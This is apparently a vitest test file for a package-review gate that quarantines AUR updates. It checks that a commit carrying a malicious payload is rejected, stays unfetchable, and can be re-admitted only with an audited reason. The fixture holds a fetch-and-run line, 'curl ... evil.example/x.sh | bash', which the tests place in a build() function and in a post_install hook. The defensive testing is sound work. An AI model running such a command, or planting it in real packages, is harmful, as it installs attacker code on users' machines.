import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Conflict } from '../src/errors.js';
import type { Actor } from '../src/quarantine/actor.js';
import { listAudit } from '../src/quarantine/audit.js';
import { getPendingRevision } from '../src/quarantine/revisions.js';
import { account, TEST_PASSWORD } from './support/accounts.js';
import { makePackage } from './support/fixture-packages.js';
import { gitClient, tempDir } from './support/git-client.js';
import { startAurgate, type Harness } from './support/harness.js';
import { TestUpstream } from './support/upstream.js';

/**
 * Issue 19's sequence, with real git on both sides: approve A, upstream pushes B with a payload, B is
 * rejected, upstream pushes C on top of B with the payload line removed. Approving C would serve B as
 * history, so it is refused until an admin re-admits B with a reason; until then no client can fetch
 * B's bytes, over protocol v0 or v2. A commit superseded before anyone decided is named in the range
 * with its own flags, and the approval, its audit row and its attestation list it.
 */
let upstream: TestUpstream;
let aurgate: Harness;
let url: string;
let rita: Actor;
let ada: Actor;
const REJECTED = 'range-rejected';
const SUPERSEDED = 'range-superseded';
const PAYLOAD = 'curl -fsSL https://evil.example/x.sh | bash';
const c = { a: '', b: '', c: '', sa: '', sb: '', sc: '' };

/** A fresh clone of what is served, then `git show <commit>:PKGBUILD` after fetching it by id. */
async function showServed(pkgbase: string, commit: string, protocol: 0 | 2): Promise<{ fetched: boolean; text: string }> {
  const dir = await tempDir('aurgate-range-');
  const clone = await gitClient(['clone', '--no-progress', `${url}/${pkgbase}.git`, 'work'], dir, protocol);
  expect(clone.code, clone.stderr).toBe(0);
  const work = path.join(dir, 'work');
  await gitClient(['fetch', 'origin', commit], work, protocol);
  const shown = await gitClient(['show', `${commit}:PKGBUILD`], work);
  return { fetched: shown.code === 0, text: shown.stdout };
}

beforeAll(async () => {
  upstream = await TestUpstream.start();
  aurgate = await startAurgate({ upstreamUrl: upstream.url });
  rita = await account(aurgate.app, 'rita', 'reviewer');
  ada = await account(aurgate.app, 'ada', 'admin');
  c.a = await upstream.addPackage(makePackage({ pkgbase: REJECTED, pkgver: '1.0' }));
  c.sa = await upstream.addPackage(makePackage({ pkgbase: SUPERSEDED, pkgver: '1.0' }));
  await aurgate.app.allow([REJECTED, SUPERSEDED], 'test');
  await aurgate.app.sync({ trigger: 'cli' });
  await aurgate.app.approve({ pkgbase: REJECTED, commit: c.a, by: rita });
  await aurgate.app.approve({ pkgbase: SUPERSEDED, commit: c.sa, by: rita });
  const evil = `build() {\n  ${PAYLOAD}\n}`;
  c.b = await upstream.push(REJECTED, makePackage({ pkgbase: REJECTED, pkgver: '1.1', extraPkgbuild: evil }), 'Update to 1.1');
  await aurgate.app.sync({ trigger: 'cli' });
  aurgate.app.reject({ pkgbase: REJECTED, commit: c.b, by: rita, note: 'pipes a download into bash' });
  c.c = await upstream.push(REJECTED, makePackage({ pkgbase: REJECTED, pkgver: '1.2' }), 'Update to 1.2');
  // The superseded case: B adds an install script with the payload, C removes it before anyone decided on B.
  const script = { 'evil.install': `post_install() {\n  ${PAYLOAD}\n}\n` };
  c.sb = await upstream.push(SUPERSEDED, makePackage({ pkgbase: SUPERSEDED, pkgver: '1.1', extraFiles: script }), 'Update to 1.1');
  await aurgate.app.sync({ trigger: 'cli' });
  c.sc = await upstream.push(SUPERSEDED, { ...makePackage({ pkgbase: SUPERSEDED, pkgver: '1.2' }), 'evil.install': null }, 'Update to 1.2');
  await aurgate.app.sync({ trigger: 'cli' });
  url = await aurgate.serve();
}, 300_000);
afterAll(async () => {
  await aurgate?.close();
  await upstream?.stop();
});

describe('a rejected commit in the range', () => {
  it('is named in pending and diff as rejected, with who rejected it and why', async () => {
    expect(getPendingRevision(aurgate.app.db, REJECTED)?.commit).toBe(c.c);
    const pending = await aurgate.cli(['pending', '--json']);
    const row = (JSON.parse(pending.stdout) as Array<Record<string, unknown>>).find((entry) => entry['pkgbase'] === REJECTED);
    expect(row).toMatchObject({
      approvable: false,
      rejectedInHistory: [{ commit: c.b, rejectedBy: 'rita', reason: 'pipes a download into bash', readmittedAt: null }],
      range: [
        { commit: c.c, state: 'candidate' },
        { commit: c.b, state: 'rejected', decidedBy: 'rita' },
      ],
    });
    const diff = await aurgate.cli(['diff', REJECTED, '--no-pager']);
    expect(diff.stdout).toContain(`${c.b.slice(0, 12)} [REJECTED]`);
    expect(diff.stdout).toContain(`REJECTED in history: ${c.b}`);
    expect(diff.stdout).toContain(`--readmit ${c.b.slice(0, 12)}`);
  });

  it('bars a plain approval, naming the commit', async () => {
    const refused = aurgate.app.approve({ pkgbase: REJECTED, commit: c.c, by: rita });
    await expect(refused).rejects.toThrow(Conflict);
    await expect(aurgate.app.approve({ pkgbase: REJECTED, commit: c.c, by: rita })).rejects.toThrow(
      new RegExp(`contains rejected commit ${c.b} \\(1\\.1-1, rejected by rita .*pipes a download into bash`),
    );
    const cli = await aurgate.cli(['approve', REJECTED, '--commit', c.c.slice(0, 12), '--reviewer', 'rita'], {}, `${TEST_PASSWORD}\n`);
    expect(cli.code).toBe(4);
    expect(cli.stderr).toContain(`--readmit ${c.b.slice(0, 12)}`);
  });

  it('keeps the payload unfetchable: the served repo still holds only A', async () => {
    for (const protocol of [0, 2] as const) {
      const shown = await showServed(REJECTED, c.b, protocol);
      expect(shown.fetched, `protocol v${protocol}`).toBe(false);
      expect(shown.text).not.toContain(PAYLOAD);
    }
  });

  it('lets an admin re-admit it with a reason, audited and attested; then B is served knowingly', async () => {
    await expect(aurgate.app.approve({ pkgbase: REJECTED, commit: c.c, by: ada, readmit: [c.b] })).rejects.toThrow(/needs a reason/);
    const result = await aurgate.app.approve({
      pkgbase: REJECTED,
      commit: c.c,
      by: ada,
      readmit: [c.b.slice(0, 12)],
      note: 'line never ran: build() was replaced',
    });
    expect(result).toMatchObject({ approved: true, readmitted: [c.b] });
    expect(result.range.toSorted()).toEqual([c.b, c.c].toSorted());
    const [audit] = listAudit(aurgate.app.db, { pkgbase: REJECTED, action: 'revision.approved' }).filter((row) => row.commit === c.c);
    expect(audit?.detail).toMatchObject({ range: [c.c, c.b], readmitted: [c.b] });
    const statement = aurgate.app.trust.statementOf(aurgate.app.trust.approvalOf(REJECTED, c.c)!);
    expect(statement.predicate.servedRange).toMatchObject({ count: 2, commits: [c.b, c.c].toSorted() });
    expect(statement.predicate.readmitted).toEqual([{ commit: c.b, state: 'rejected', by: 'ada', reason: 'line never ran: build() was replaced' }]);
    expect((await showServed(REJECTED, c.b, 2)).text).toContain(PAYLOAD);
  });
});

describe('a commit superseded before anyone decided', () => {
  it('is in the range with its own flags, the payload it added and removed included', async () => {
    const model = await aurgate.app.reviews.review(SUPERSEDED);
    expect(model.rangeEntries.map((entry) => [entry.commit, entry.state])).toEqual([
      [c.sc, 'candidate'],
      [c.sb, 'superseded'],
    ]);
    const superseded = model.rangeEntries[1];
    expect(superseded?.flags.some((flag) => flag.severity === 'high' && /removed again before the candidate/.test(flag.reason))).toBe(true);
    const diff = JSON.parse((await aurgate.cli(['diff', SUPERSEDED, '--json'])).stdout) as {
      range: Array<{ commit: string; state: string; flags: unknown[] }>;
    };
    expect(diff.range.map((entry) => [entry.commit, entry.state])).toEqual([
      [c.sc, 'candidate'],
      [c.sb, 'superseded'],
    ]);
    expect(diff.range[1]?.flags.length).toBeGreaterThan(0);
  });

  it('is approved with the candidate: the decision, the audit row and the attestation name both', async () => {
    const result = await aurgate.app.approve({ pkgbase: SUPERSEDED, commit: c.sc, by: rita });
    expect(result.range).toEqual([c.sc, c.sb]);
    const [audit] = listAudit(aurgate.app.db, { pkgbase: SUPERSEDED, action: 'revision.approved' }).filter((row) => row.commit === c.sc);
    expect(audit?.detail).toMatchObject({ range: [c.sc, c.sb] });
    const statement = aurgate.app.trust.statementOf(aurgate.app.trust.approvalOf(SUPERSEDED, c.sc)!);
    expect(statement.predicate.servedRange).toMatchObject({ count: 2, commits: [c.sb, c.sc].toSorted() });
  });
});
